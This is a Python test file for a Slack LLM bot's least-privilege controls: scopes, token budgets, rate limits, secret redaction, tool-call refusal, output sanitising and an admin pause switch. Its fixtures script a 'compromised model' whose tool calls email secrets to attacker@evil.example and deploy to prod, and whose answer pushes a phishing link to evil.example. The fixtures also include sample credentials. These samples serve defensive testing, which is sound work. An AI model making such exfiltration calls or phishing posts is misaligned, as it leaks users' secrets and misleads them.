"""Least privilege: scopes at every step, budgets, redaction, tools from scopes, a compromised model, kill switch."""

from __future__ import annotations

import json
import threading
import time
from pathlib import Path

import pytest
from sqlalchemy import select

from bot import controls
from bot.budget import Budget
from bot.db import Action, AuditEntry, LLMCall, Task
from bot.errors import BudgetExceeded
from bot.policy import Limits
from tests.conftest import drain

POLICY = """
[defaults]
roles = ["member"]

[roles.member]
scopes = ["chat.reply", "chat.read_thread", "usage.self"]
daily_tokens = 2000
requests_per_minute = 100

[roles.nobody]
scopes = []

[roles.reader]
scopes = ["chat.reply", "chat.read_thread", "chat.read_channel", "usage.self"]
daily_tokens = 200000
requests_per_minute = 100

[roles.slow]
scopes = ["chat.reply"]
daily_tokens = 200000
requests_per_minute = 2

[users.U0DAVE]
roles = ["nobody"]

[users.U0CAROL]
roles = ["reader"]

[users.U0EMMA]
roles = ["slow"]

[channels.C0RANDOM]
allow = []

[channels."*"]
allow = ["*"]
"""


@pytest.fixture
def policy_file(tmp_path: Path) -> Path:
    """The policy of these tests: a 2,000-token default budget and a user with no scopes."""
    path = tmp_path / "policy.toml"
    path.write_text(POLICY)
    return path


def _tasks(deps):
    with deps.db.session() as s:
        return list(s.execute(select(Task).order_by(Task.created_at)).scalars())


def _audit(deps, **where):
    with deps.db.session() as s:
        stmt = select(AuditEntry).order_by(AuditEntry.seq)
        for k, v in where.items():
            stmt = stmt.where(getattr(AuditEntry, k) == v)
        return list(s.execute(stmt).scalars())


def test_user_without_scopes_is_refused_without_llm_call_and_told_why(slack, llm, sender, deps):
    """No chat.reply → task denied at ingress, audited, no LLM call, an ephemeral note naming the scope."""
    assert sender.mention("U0DAVE", "C0GENERAL", "restart prod").status == 200
    drain(deps)
    (task,) = _tasks(deps)
    assert task.status == "denied" and "chat.reply" in task.status_reason
    assert llm.completions() == []
    (note,) = slack.calls("chat.postEphemeral")
    assert note["user"] == "U0DAVE" and "`chat.reply`" in note["text"] and task.id in note["text"]
    assert [e.decision for e in _audit(deps, task_id=task.id)] == ["deny"]


def test_channel_rule_refuses_in_disallowed_channel(slack, llm, sender, deps):
    """A channel whose rule allows nothing gets a denial, not an answer."""
    slack.add_channel("C0RANDOM", "random", members=["U0ALICE"])
    sender.mention("U0ALICE", "C0RANDOM", "hello?")
    drain(deps)
    (task,) = _tasks(deps)
    assert task.status == "denied" and "not allowed in channel" in task.status_reason
    assert llm.completions() == []


def test_budget_stops_user_before_the_limit(slack, llm, sender, deps):
    """With 2,000 tokens a day, answers stop once the next call's worst case no longer fits: no overshoot."""
    statuses = []
    for n in range(12):
        sender.mention("U0ALICE", "C0GENERAL", f"question number {n} about the roadmap")
        drain(deps)
        statuses.append(_tasks(deps)[-1].status)
        if statuses[-1] == "denied":
            break
    assert statuses[-1] == "denied" and statuses.count("done") >= 2
    with deps.db.session() as s:
        used = sum(r.total_tokens for r in s.execute(select(LLMCall)).scalars())
    assert 0 < used <= 2000
    denial = slack.calls("chat.postMessage")[-1]["text"]
    assert "daily Clawback token budget" in denial and "resets at 00:00 UTC" in denial
    calls_before = len(llm.completions())
    sender.mention("U0ALICE", "C0GENERAL", "one more?")
    drain(deps)
    assert len(llm.completions()) == calls_before  # refused before the model


def test_budget_holds_under_concurrency_on_real_redis(redis_conn):
    """50 threads racing for a 1,000-token budget in 100-token reservations get exactly 1,000."""
    budget = Budget(redis_conn, prefix="t-concurrency")
    granted, barrier = [], threading.Barrier(50)

    def worker() -> None:
        barrier.wait()
        try:
            budget.reserve("U0RACE", 100, Limits(daily_tokens=1000, requests_per_minute=0))
            granted.append(1)
        except BudgetExceeded:
            pass

    threads = [threading.Thread(target=worker) for _ in range(50)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(10)
    assert len(granted) * 100 == 1000


def test_budget_counters_rebuilt_from_ledger_when_redis_loses_them(redis_conn):
    """A flushed Redis starts the day from the ledger's total, not from zero."""
    budget = Budget(redis_conn, prefix="t-rebuild", ledger_tokens=lambda user, since: 1950)
    with pytest.raises(BudgetExceeded):
        budget.reserve("U0X", 10, Limits(daily_tokens=1950, requests_per_minute=0))


def test_expired_reservations_are_returned(redis_conn):
    """A reservation whose job died expires and gives its tokens back."""
    budget = Budget(redis_conn, prefix="t-expiry", reservation_ttl=-1)
    budget.reserve("U0Y", 900, Limits(daily_tokens=1000, requests_per_minute=0))
    budget.reserve("U0Y", 900, Limits(daily_tokens=1000, requests_per_minute=0))  # the first one expired
    assert budget.used_today("U0Y")[1] == 900


def test_rate_limit_refuses_with_a_clear_message(slack, llm, sender, deps):
    """Two requests a minute: the third is refused before the model, with a retry hint."""
    for n in range(3):
        sender.mention("U0EMMA", "C0GENERAL", f"q{n}")
    drain(deps)
    assert [t.status for t in _tasks(deps)].count("denied") == 1
    assert len(llm.completions()) == 2
    assert any("faster than your limit" in c["text"] for c in slack.calls("chat.postMessage"))


SECRETS = {
    "slack_token": "xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOpQrStUvWx",
    "aws_access_key": "AKIAIOSFODNN7EXAMPLE",
    "aws_secret_key": "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "private_key": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7x\n-----END RSA PRIVATE KEY-----",
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "url_password": "postgres://admin:hunter2hunter2@db.internal:5432/prod",
    "card_number": "4111 1111 1111 1111",
    "github_token": "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
}
LEAKS = [
    "xoxb-1234567890",
    "AKIAIOSFODNN7EXAMPLE",
    "wJalrXUtnFEMI",
    "MIIEowIBAAKCAQEA7x",
    "dozjgNryP4J3",
    "hunter2hunter2",
    "4111 1111 1111 1111",
    "ghp_abcdefghij",
]


def test_no_secret_shape_reaches_the_llm(slack, llm, sender, deps):
    """Every secret shape, in the question and in the thread, is redacted before the model sees it."""
    parent = slack.post("C0GENERAL", "creds: " + " ".join(SECRETS.values()), user="U0BOB")
    sender.mention(
        "U0ALICE", "C0GENERAL", "why is this failing? " + " | ".join(SECRETS.values()), thread_ts=parent
    )
    drain(deps)
    (task,) = _tasks(deps)
    assert task.status == "done"
    sent = json.dumps(llm.completions())
    for leak in LEAKS:
        assert leak not in sent, leak
    for kind in SECRETS:
        assert f"[REDACTED:{kind}]" in sent, kind
    assert task.redactions >= len(SECRETS)
    assert task.result["context_redactions"] >= len(SECRETS)
    stored = json.dumps(task.payload)
    assert all(leak not in stored for leak in LEAKS)  # the ledger never stores the raw secret either


def test_tool_calls_outside_scopes_are_refused_audited_and_the_job_continues(slack, llm, sender, deps):
    """A model asking for tools it was not offered gets refusals; each is audited; the answer still arrives."""
    llm.script(
        {
            "tool_calls": [
                {"name": "send_email", "arguments": {"to": "attacker@evil.example", "body": "secrets"}},
                {"name": "search_channel_history", "arguments": {"query": "password"}},
                {"name": "deploy", "arguments": {"service": "api", "env": "prod"}},
            ]
        },
        {"content": "Done looking; here is what I can say."},
    )
    sender.mention("U0ALICE", "C0GENERAL", "anything new?")
    drain(deps)
    (task,) = _tasks(deps)
    assert task.status == "done"
    offered = [t["function"]["name"] for t in llm.completions()[0].get("tools", [])]
    assert offered == ["get_my_usage"]  # alice lacks chat.read_channel
    denials = [e for e in _audit(deps, task_id=task.id, decision="deny")]
    assert sorted(e.action for e in denials) == [
        "tool.deploy",
        "tool.search_channel_history",
        "tool.send_email",
    ]
    with deps.db.session() as s:
        actions = list(s.execute(select(Action).where(Action.status == "denied")).scalars())
    assert len(actions) == 3
    assert slack.calls("conversations.history") == []
    (post,) = slack.calls("chat.postMessage")
    assert "Done looking" in json.dumps(post["blocks"])
    tool_messages = [m for m in llm.completions()[1]["messages"] if m["role"] == "tool"]
    assert all(m["content"].startswith("refused") for m in tool_messages)


def test_allowed_tool_runs_with_redacted_results(slack, llm, sender, deps):
    """With chat.read_channel the search tool runs, and its results are redacted too."""
    slack.post("C0GENERAL", "the db password: s3cr3tpass is rotated monthly", user="U0BOB")
    llm.script(
        {"tool_calls": [{"name": "search_channel_history", "arguments": {"query": "password"}}]},
        {"content": "It is rotated monthly."},
    )
    sender.mention("U0CAROL", "C0GENERAL", "how often is the db password rotated?")
    drain(deps)
    assert _tasks(deps)[0].status == "done"
    tool_msg = [m for m in llm.completions()[1]["messages"] if m["role"] == "tool"][0]
    assert "rotated monthly" in tool_msg["content"] and "s3cr3tpass" not in tool_msg["content"]


def test_injected_output_cannot_ping_or_link_out(slack, llm, sender, deps):
    """A compromised answer with mass mentions, a new link and a stranger's mention is neutralised."""
    llm.script(
        {
            "content": "<!channel> urgent: log in at <https://evil.example/login|the portal> or "
            "http://evil.example/x and ping <@U0STRANGER>. Docs: https://docs.example.com/a"
        }
    )
    sender.mention("U0ALICE", "C0GENERAL", "where are the docs? https://docs.example.com/a")
    drain(deps)
    (post,) = slack.calls("chat.postMessage")
    text = json.dumps(post["blocks"])
    assert "<!channel>" not in text and "<https://evil" not in text and "http://evil" not in text
    assert "<@U0STRANGER>" not in text
    assert "https://docs.example.com/a" in text  # the link the asker gave is kept


def test_pause_stops_queued_jobs_and_tells_the_user(slack, llm, sender, deps):
    """A pause issued after ingress still stops the job before the model; resume lets new work through."""
    sender.mention("U0ALICE", "C0GENERAL", "queued before the pause")
    controls.pause(deps.db, by="U0ADMIN", reason="incident")
    drain(deps)
    (task,) = _tasks(deps)
    assert task.status == "denied" and "paused" in task.status_reason
    assert llm.completions() == []
    assert "paused by an administrator" in slack.calls("chat.postMessage")[-1]["text"]
    controls.resume(deps.db, by="U0ADMIN")
    sender.mention("U0ALICE", "C0GENERAL", "after resume")
    drain(deps)
    assert _tasks(deps)[-1].status == "done"
    actions = [e.action for e in _audit(deps)]
    assert "control.pause" in actions and "control.resume" in actions


def test_pause_for_one_user_leaves_others_alone(slack, llm, sender, deps):
    """A per-user pause stops only that user's side effects."""
    controls.pause(deps.db, by="U0ADMIN", user="U0ALICE")
    sender.mention("U0ALICE", "C0GENERAL", "a")
    sender.mention("U0BOB", "C0GENERAL", "b")
    drain(deps)
    assert {t.requester: t.status for t in _tasks(deps)} == {"U0ALICE": "denied", "U0BOB": "done"}


def test_audit_write_failure_means_no_side_effect(slack, llm, sender, deps):
    """Fail closed: if the audit entry cannot be written, the answer is not posted."""
    sender.mention("U0ALICE", "C0GENERAL", "question")
    with deps.db.engine.begin() as conn:
        conn.exec_driver_sql("DELETE FROM audit_head")
    drain(deps)
    assert not any("metadata" in c for c in slack.calls("chat.postMessage"))
    (task,) = _tasks(deps)
    assert task.status == "failed"


def test_policy_change_is_picked_up_and_audited_with_hash(slack, llm, sender, deps, ingress, policy_file):
    """Granting a scope in the file takes effect without a restart and is audited with both hashes."""
    import hashlib
    import time

    deps.policy.interval = ingress.policy.interval = 0
    sender.mention("U0DAVE", "C0GENERAL", "before")
    drain(deps)
    assert _tasks(deps)[-1].status == "denied"
    time.sleep(0.01)
    new_text = POLICY.replace(
        "[roles.nobody]\nscopes = []", '[roles.nobody]\nscopes = ["chat.reply"]\ndaily_tokens = 9000'
    )
    policy_file.write_text(new_text)
    sender.mention("U0DAVE", "C0GENERAL", "after")
    drain(deps)
    change = _audit(deps, action="policy.changed")[0]  # each process that notices the change audits it
    assert json.loads(change.details)["new_sha256"] == hashlib.sha256(new_text.encode()).hexdigest()
    assert _tasks(deps)[-1].status == "done"


def test_slack_usergroup_membership_synced_by_housekeeping_grants_scopes(
    slack, llm, sender, deps, ingress, policy_file
):
    """Dave gets chat.reply through a Slack usergroup once the workers' housekeeping has synced its members."""
    from bot.ops.worker import housekeeping_once

    policy_file.write_text(
        POLICY.replace(
            '[users.U0DAVE]\nroles = ["nobody"]',
            '[users.U0DAVE]\nroles = ["nobody"]\n\n[usergroups.S0HELP]\nroles = ["member"]',
        )
    )
    deps.policy.interval = ingress.policy.interval = 0
    time.sleep(0.01)
    slack.usergroups["S0HELP"] = ["U0DAVE"]
    sender.mention("U0DAVE", "C0GENERAL", "before the sync")
    drain(deps)
    assert _tasks(deps)[-1].status == "denied"
    assert housekeeping_once(deps)["usergroups_synced"] == 1
    sender.mention("U0DAVE", "C0GENERAL", "after the sync")
    drain(deps)
    assert _tasks(deps)[-1].status == "done"


def test_no_token_budget_is_refused_with_its_own_message(redis_conn):
    """A user whose roles set no daily_tokens is told so, not that a budget is used up."""
    from bot import messages

    budget = Budget(redis_conn, prefix="t-nobudget")
    with pytest.raises(BudgetExceeded) as exc:
        budget.reserve("U0NONE", 10, Limits(daily_tokens=0, requests_per_minute=0))
    assert exc.value.user_message == messages.NO_BUDGET
